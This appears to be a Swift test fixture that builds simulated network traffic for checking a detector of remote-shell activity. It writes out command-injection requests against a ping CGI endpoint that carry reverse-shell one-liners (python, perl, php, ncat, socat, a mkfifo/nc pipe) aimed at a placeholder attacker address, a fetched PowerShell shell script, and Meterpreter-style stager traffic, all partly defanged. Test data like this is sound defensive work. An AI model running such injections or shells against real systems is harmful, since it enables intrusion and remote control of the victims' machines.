import TestSupport

extension Scenario {
    /// Shells that are opened by other means than bash.
    static var shells: [Scenario] { [shellRequests, powerShellSocket, meterpreter] }

    /// Six commands that a diagnostic page would run, encoded in different ways. What they would start is called drill.
    private static var shellRequests: Scenario {
        var story = Story(port: 43010)
        let attacker = "203.0.113.92"
        func ask(_ request: String) { story.web(attacker, "198.51.100.10", 8088, asks: request) }
        func post(_ body: String) -> String {
            Text.request("POST", "/cgi-bin/ping", host: "giamsat.example", body: body)
        }
        ask(
            Text.request(
                "GET",
                "/cgi-bin/ping?host=1%3bpython3%20-c%20%27s.connect%28%28%22\(attacker)%22,4444%29%29;"
                    + "os.dup2%28s.fileno%28%29,0%29;pty.spawn%28%22drill%22%29%27",
                host: "giamsat.example"))
        ask(
            post(
                #"{"host":"1;perl -e 'socket(S,PF_INET,SOCK_STREAM,getprotobyname(\"tcp\"));"#
                    + #"connect(S,drill);open(STDIN,\">&S\")'"}"#))
        ask(
            post(
                "host=1;php -r '$s=fsockopen(\"\(attacker)\",4444);" + "ex" + "ec(\"drill <&3 >&3 2>&3\");'"))
        ask(post("host=1;ncat+\(attacker)+4444+-e+/bin/sh"))
        ask(post("host=1;socat tcp-connect:\(attacker):4444 exec:'sh -c drill'"))
        ask(post("host=1;mkfifo /tmp/d;cat /tmp/d|sh -i 2>&1|nc \(attacker) 4444 >/tmp/d"))
        return Scenario("c2/shell-requests", story.frames)
    }

    /// A script that is fetched and would open a shell.
    private static var powerShellSocket: Scenario {
        var story = Story(port: 43020)
        story.web(
            "198.51.100.32", "203.0.113.67", 8080,
            asks: Text.request("GET", "/cap-nhat.ps1", host: "capnhat.example"),
            gets: Text.response(Payload.powerShellSocket, type: "text/plain"))
        return Scenario("c2/powershell-shell", story.frames)
    }

    /// A question and its answer; a stage in Python; a stage that is a program. None of them runs.
    private static var meterpreter: Scenario {
        var story = Story(port: 43030)
        let (victim, attacker) = ("198.51.100.32", "203.0.113.90")
        story.talk(victim, attacker, 4444) { talk in
            talk.server(sends: Payload.remoteCall("stdapi_sys_config_getuid", isAnswer: false))
            talk.client(sends: Payload.remoteCall("stdapi_sys_config_getuid", isAnswer: true), segment: 30)
        }
        story.talk(victim, attacker, 4445) { talk in
            talk.server(
                sends: "l=struct.unpack('>I',s.recv(4))[0]\nd=s.recv(l)\nwhile len(d)<l:\n\td+=drill\n"
                    + "ex" + "ec(zlib.decompress(base64.b64decode(d)),{'s':s})\n")
        }
        story.talk(victim, attacker, 4446) { talk in
            let stage = Payload.program([".text"], strings: ["metsrv.x64.dll", "Reflective" + "Loader"])
            talk.server(sends: Payload.little(stage.count, 4) + stage, segment: 100)
        }
        return Scenario("c2/meterpreter-session", story.frames)
    }
}
